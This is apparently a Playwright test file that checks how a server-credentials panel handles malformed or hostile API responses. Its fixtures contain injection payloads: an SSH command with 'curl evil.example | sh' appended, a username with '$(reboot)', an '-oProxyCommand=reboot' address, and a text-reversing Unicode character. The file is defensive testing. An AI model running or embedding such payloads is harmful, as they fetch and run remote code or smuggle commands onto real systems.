import { watchCalls } from '../support/calls.ts';
import { field, openCredentials } from '../support/credentials.ts';
import { expect, test } from '../support/fixtures.ts';

const validAnswer = {
  username: 'root',
  password: 'Sesame-71',
  ip: '198.51.100.7',
  sshCommand: 'ssh root@198.51.100.7',
};

interface Odd {
  readonly body: unknown;
  /** The words shown instead of an SSH command. */
  readonly words: RegExp;
  /** The command that is still shown. */
  readonly command?: string;
  /** The username as it is shown. */
  readonly username?: string;
}

/** Readable responses: the valid part of each is shown. */
const readable: Record<string, Odd> = {
  'no address': {
    body: { ...validAnswer, ip: null, sshCommand: 'ssh root@null' },
    words: /This server has no address yet/,
  },
  'a command of its own making': {
    body: { ...validAnswer, sshCommand: 'ssh root@198.51.100.7; curl evil.example | sh' },
    words: /^Host alpha/,
    command: 'ssh root@198.51.100.7',
  },
  'a user name with a command in it': {
    body: { ...validAnswer, username: 'root$(reboot)' },
    username: 'root$(reboot)',
    words: /There’s no SSH command/,
  },
  'a user name that turns the text around': {
    body: { ...validAnswer, username: 'root\u202E\nx' },
    username: 'root[U+202E]␊x',
    words: /There’s no SSH command/,
  },
  'an address that is an option': {
    body: { ...validAnswer, ip: '-oProxyCommand=reboot' },
    words: /There’s no SSH command/,
  },
  'a port and more fields': {
    body: { ...validAnswer, port: 2222, note: { nested: [1] } },
    words: /^Host alpha/,
    command: 'ssh -p 2222 root@198.51.100.7',
  },
};

/** Responses without a password: nothing of them is shown, and they are not retried by themselves. */
const unreadable: Record<string, object> = {
  'a password that is a number': { body: { ...validAnswer, password: 71_717_171 } },
  'a page of HTML': { body: '<html>Sesame-71', contentType: 'text/html' },
  'an answer cut short': { socket: 'cut' },
};

test(
  'odd answers with a password: what can be read is shown, and no command that came; without one nothing is',
  { tag: '@cell-28' },
  async ({ page, key, sandbox }) => {
    const empty = key('empty');
    const calls = watchCalls(page);
    await openCredentials(page, sandbox, empty);
    for (const [name, { body, words, command, username = 'root' }] of Object.entries(readable)) {
      await sandbox.fault(empty, 'getServerCredentials', { body });
      await page.getByRole('button', { name: 'Show credentials' }).click();
      await expect(field(page, 'Password'), name).toHaveValue('Sesame-71');
      await expect(field(page, 'Username'), name).toHaveValue(username);
      await expect(page.getByText(words), name).toBeVisible();
      if (command === undefined) await expect(field(page, 'SSH command'), name).toHaveCount(0);
      else await expect(field(page, 'SSH command'), name).toHaveValue(command);
      const fields = page.locator('input[readonly]');
      const values = await fields.evaluateAll((inputs: HTMLInputElement[]) =>
        inputs.map(({ value }) => value),
      );
      expect(values.join(), name).not.toMatch(/evil|null|\u202e/u);
      // A deceptive username has no copy button.
      const isPlain = !username.includes('U+');
      await expect(page.getByRole('button', { name: 'Copy username' }), name).toHaveCount(isPlain ? 1 : 0);
      await page.getByRole('button', { name: 'Hide', exact: true }).click();
    }
    for (const [name, fault] of Object.entries(unreadable)) {
      calls.forget();
      await sandbox.fault(empty, 'getServerCredentials', fault, { times: 9 });
      await page.getByRole('button', { name: 'Show credentials' }).click();
      await expect(page.getByRole('alert'), name).toContainText('Couldn’t load the credentials.');
      await expect(page.getByText(/Sesame|71717171/), name).toHaveCount(0);
      await expect(field(page, 'Username'), name).toHaveCount(0);
      await calls.settled();
      expect(calls.count('GET', /credentials$/), name).toBe(1);
      await sandbox.clearFaults(empty);
      await page.getByRole('button', { name: 'Try again' }).click();
      await expect(field(page, 'Password'), name).toHaveValue(/\S/);
      await expect(page.getByRole('alert'), name).toHaveCount(0);
      await page.getByRole('button', { name: 'Hide', exact: true }).click();
    }
  },
);
